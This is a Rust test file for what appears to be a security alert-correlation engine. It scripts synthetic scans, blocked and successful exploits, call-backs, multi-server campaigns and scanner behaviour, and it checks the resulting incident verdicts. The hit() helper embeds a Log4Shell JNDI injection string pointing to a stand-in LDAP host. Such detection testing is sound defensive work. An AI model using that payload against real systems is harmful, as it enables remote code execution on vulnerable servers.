//! Reconnaissance and exploits from outside.

use std::net::IpAddr;

use hinomi_generate::catalog::{self, Signature};
use hinomi_generate::site::{SCANNER, WEB, WEB_PUBLIC, ip, outside};
use hinomi_generate::{End, Happening, botnet, denied, exploit, scan, traffic};

use super::{A, B, DAY, HOUR, MINUTE, at};
use crate::story::{BOTH, Case, Expect, Expected, Teller};

/// The chapter's cases.
pub(super) static CASES: &[Case] = &[
    Case { number: 1, name: "a scan verdict and 200 denials", vendors: BOTH, tell: scanned },
    Case {
        number: 1,
        name: "the same source on the next UTC day is the next incident",
        vendors: BOTH,
        tell: scanned_two_days,
    },
    Case { number: 2, name: "5,000 denials from everywhere", vendors: BOTH, tell: background },
    Case { number: 3, name: "60 exploits, all stopped", vendors: BOTH, tell: stopped },
    Case { number: 3, name: "all stopped but one", vendors: BOTH, tell: stopped_but_one },
    Case { number: 4, name: "detected only, no traffic log", vendors: BOTH, tell: detected },
    Case { number: 5, name: "3 packets, 120 bytes back", vendors: BOTH, tell: failed },
    Case { number: 5, name: "3 packets, 300 bytes back are no proof", vendors: BOTH, tell: almost_failed },
    Case { number: 5, name: "5 packets, 200 bytes back are no proof", vendors: BOTH, tell: too_many_packets },
    Case { number: 6, name: "5,200 bytes back, normal close", vendors: BOTH, tell: answered },
    Case { number: 7, name: "reset after 40 kB back", vendors: BOTH, tell: reset_late },
    Case { number: 8, name: "the server calls back two minutes later", vendors: BOTH, tell: called_back },
    Case { number: 8, name: "the call-back's log arrives first", vendors: BOTH, tell: called_back_first },
    Case {
        number: 8,
        name: "a call-back after 45 minutes is too late",
        vendors: BOTH,
        tell: called_back_late,
    },
    Case {
        number: 8,
        name: "another server's session to the attacker is no call-back",
        vendors: BOTH,
        tell: another_called,
    },
    Case { number: 9, name: "the server fetches its vendor's update", vendors: BOTH, tell: updated },
    Case { number: 10, name: "a scanner's fingerprint", vendors: BOTH, tell: fingerprint },
    Case { number: 10, name: "generic injection words", vendors: BOTH, tell: generic },
    Case { number: 11, name: "seven families at nine servers", vendors: BOTH, tell: campaign },
    Case {
        number: 11,
        name: "two families at four servers are no campaign",
        vendors: BOTH,
        tell: no_campaign,
    },
    Case { number: 12, name: "a sniffer says reset", vendors: BOTH, tell: sniffed },
    Case { number: 13, name: "the declared scanner", vendors: BOTH, tell: declared_scanner },
    Case { number: 13, name: "another host does the same", vendors: BOTH, tell: undeclared_scanner },
    Case { number: 14, name: "the declared scanner beacons", vendors: BOTH, tell: scanner_beacons },
];

const SESSION: u64 = 48_213;

fn hit(seconds: i64, signature: &'static Signature) -> Happening {
    let hit = exploit(at(seconds), A, WEB, 80, signature).behind(WEB_PUBLIC).session(SESSION);
    hit.url("/?x=${jndi:ldap://203.0.113.1:1389/a}")
}

fn its_session(seconds: i64) -> Happening {
    traffic(at(seconds), A, WEB, 80).behind(WEB_PUBLIC).session(SESSION)
}

fn open(level: u8) -> Expect {
    Expect::one(Expected::host(level, WEB))
}

fn tell_scan(teller: &mut Teller, start: i64) {
    for n in 0..200_u8 {
        let target = ip(198, 51, 100, 2 + n % 6);
        let packet = denied(at(start + i64::from(n / 2)), A, target, 1_000 + u16::from(n));
        teller.tell(packet.session(9_000 + u64::from(n)));
    }
    teller.tell(scan(at(start + 101), A, ip(198, 51, 100, 2)).blocked());
}

fn scanned(teller: &mut Teller) -> Expect {
    tell_scan(teller, 0);
    Expect::one(Expected::source(1, A))
}

fn scanned_two_days(teller: &mut Teller) -> Expect {
    tell_scan(teller, 0);
    tell_scan(teller, DAY);
    Expect::one(Expected::source(1, A)).and(Expected::source(1, A))
}

fn background(teller: &mut Teller) -> Expect {
    for n in 0..5_000_u32 {
        let source = outside(n * 7);
        let target = ip(198, 51, 100, 1 + (n % 60) as u8);
        let packet = denied(at(i64::from(n) * 17), source, target, [22, 23, 445, 3389][n as usize % 4]);
        teller.tell(packet.session(20_000 + u64::from(n)));
    }
    Expect::nothing()
}

fn tell_stopped(teller: &mut Teller) {
    for n in 0..60_i64 {
        let hit = exploit(at(n * 5), A, WEB, 80, if n % 3 == 0 { &catalog::STRUTS } else { &catalog::LOG4J });
        let hit = hit.behind(WEB_PUBLIC).session(5_000 + n.unsigned_abs());
        teller.tell(if n % 2 == 0 { hit.blocked() } else { hit.reset() });
    }
}

fn stopped(teller: &mut Teller) -> Expect {
    tell_stopped(teller);
    Expect::one(Expected::source(1, A).with("outcome", "blocked"))
}

fn stopped_but_one(teller: &mut Teller) -> Expect {
    tell_stopped(teller);
    teller.tell(hit(10 * MINUTE, &catalog::LOG4J));
    Expect::one(Expected::host(2, WEB)).others_up_to(1)
}

fn detected(teller: &mut Teller) -> Expect {
    teller.tell(hit(0, &catalog::LOG4J));
    Expect::one(Expected::host(2, WEB).with("outcome", "unknown"))
}

fn failed(teller: &mut Teller) -> Expect {
    teller.tell(hit(0, &catalog::LOG4J));
    teller.tell(its_session(5 * MINUTE).carried(640, 120, 4, 3).ended(End::ServerReset));
    Expect::one(Expected::host(1, WEB).with("outcome", "failed"))
}

fn almost_failed(teller: &mut Teller) -> Expect {
    teller.tell(hit(0, &catalog::LOG4J));
    teller.tell(its_session(5 * MINUTE).carried(640, 300, 4, 3).ended(End::ServerReset));
    open(2)
}

fn too_many_packets(teller: &mut Teller) -> Expect {
    teller.tell(hit(0, &catalog::LOG4J));
    teller.tell(its_session(5 * MINUTE).carried(640, 200, 4, 5).ended(End::ServerReset));
    open(2)
}

fn answered(teller: &mut Teller) -> Expect {
    teller.tell(hit(0, &catalog::STRUTS));
    teller.tell(its_session(20).bytes(1_900, 5_200));
    open(2)
}

fn reset_late(teller: &mut Teller) -> Expect {
    teller.tell(hit(0, &catalog::STRUTS));
    teller.tell(its_session(20).bytes(1_900, 40_000).ended(End::ClientReset));
    open(2)
}

fn call(seconds: i64, server: IpAddr) -> Happening {
    traffic(at(seconds), server, A, 1389).bytes(900, 4_400).session(60_001).lasted(1)
}

fn called_back(teller: &mut Teller) -> Expect {
    teller.tell(hit(0, &catalog::LOG4J));
    teller.tell(its_session(4).bytes(1_900, 900));
    teller.tell(call(2 * MINUTE, WEB));
    Expect::one(Expected::host(4, WEB).with("infection", "infected").with("outcome", "succeeded"))
}

fn called_back_first(teller: &mut Teller) -> Expect {
    teller.tell(call(2 * MINUTE, WEB));
    teller.tell(its_session(4).bytes(1_900, 900));
    teller.tell(hit(0, &catalog::LOG4J));
    Expect::one(Expected::host(4, WEB).with("infection", "infected"))
}

fn called_back_late(teller: &mut Teller) -> Expect {
    teller.tell(hit(0, &catalog::LOG4J));
    teller.tell(call(45 * MINUTE, WEB));
    open(2)
}

fn another_called(teller: &mut Teller) -> Expect {
    teller.tell(hit(0, &catalog::LOG4J));
    teller.tell(call(2 * MINUTE, ip(10, 1, 200, 44)));
    open(2)
}

fn updated(teller: &mut Teller) -> Expect {
    teller.tell(hit(0, &catalog::STRUTS));
    teller.tell(its_session(5).bytes(1_900, 5_200));
    teller.tell(traffic(at(6 * MINUTE), WEB, outside(50), 443).bytes(2_400, 1_200_000).session(60_002));
    open(2)
}

fn fingerprint(teller: &mut Teller) -> Expect {
    teller.tell(hit(0, &catalog::SCANNER_FINGERPRINT));
    Expect { incidents: vec![Expected::source(1, A)], ..Expect::nothing() }
}

fn generic(teller: &mut Teller) -> Expect {
    teller.tell(hit(0, &catalog::SQL_INJECTION));
    Expect { incidents: vec![Expected::source(1, A)], ..Expect::nothing() }
}

fn tell_campaign(teller: &mut Teller, families: &[&'static Signature], servers: u8) {
    let mut session = 70_000;
    for server in 0..servers {
        for (n, signature) in (0_i64..).zip(families) {
            session += 1;
            let hit =
                exploit(at(i64::from(server) * 20 + n * 2), A, ip(10, 1, 200, 40 + server), 80, signature);
            teller.tell(hit.behind(ip(198, 51, 100, 40 + server)).session(session));
        }
    }
}

fn campaign(teller: &mut Teller) -> Expect {
    let families = [
        &catalog::LOG4J,
        &catalog::STRUTS,
        &catalog::SHELLSHOCK,
        &catalog::PHPUNIT,
        &catalog::GPON,
        &catalog::HNAP,
        &catalog::THINKPHP,
    ];
    tell_campaign(teller, &families, 9);
    Expect::one(Expected::source(2, A)).told(&[("digest", 2, "email")])
}

fn no_campaign(teller: &mut Teller) -> Expect {
    tell_campaign(teller, &[&catalog::LOG4J, &catalog::STRUTS], 4);
    let mut expect = Expect::one(Expected::host(2, ip(10, 1, 200, 40)));
    for server in 41..44 {
        expect = expect.and(Expected::host(2, ip(10, 1, 200, server)));
    }
    expect.told(&[("first", 2, "email"); 4])
}

fn sniffed(teller: &mut Teller) -> Expect {
    teller.sniff();
    teller.tell(hit(0, &catalog::LOG4J).reset());
    // Bytes decide nothing here: a copy may lack half of the session.
    teller.tell(its_session(5).carried(640, 120, 4, 3));
    Expect::one(Expected::host(2, WEB).with("posture", "sniffer"))
}

fn tell_internal_scan(teller: &mut Teller, source: IpAddr) {
    for n in 0..40_i64 {
        let target = ip(10, 1, 200, 10 + (n % 8) as u8);
        let hit = exploit(at(n * 3), source, target, 80, &catalog::STRUTS);
        teller.tell(hit.session(80_000 + n.unsigned_abs()));
    }
}

fn declared_scanner(teller: &mut Teller) -> Expect {
    teller.registry.allows_scanner = true;
    tell_internal_scan(teller, SCANNER);
    Expect::one(Expected::host(0, SCANNER))
}

fn undeclared_scanner(teller: &mut Teller) -> Expect {
    teller.registry.allows_scanner = true;
    tell_internal_scan(teller, ip(10, 1, 9, 10));
    Expect::one(Expected::host(4, ip(10, 1, 9, 10)))
}

fn scanner_beacons(teller: &mut Teller) -> Expect {
    teller.registry.allows_scanner = true;
    tell_internal_scan(teller, SCANNER);
    teller.tell(botnet(at(3 * HOUR), SCANNER, B, 443, &catalog::EMOTET).session(80_100));
    Expect::one(Expected::host(4, SCANNER).not_contained())
}
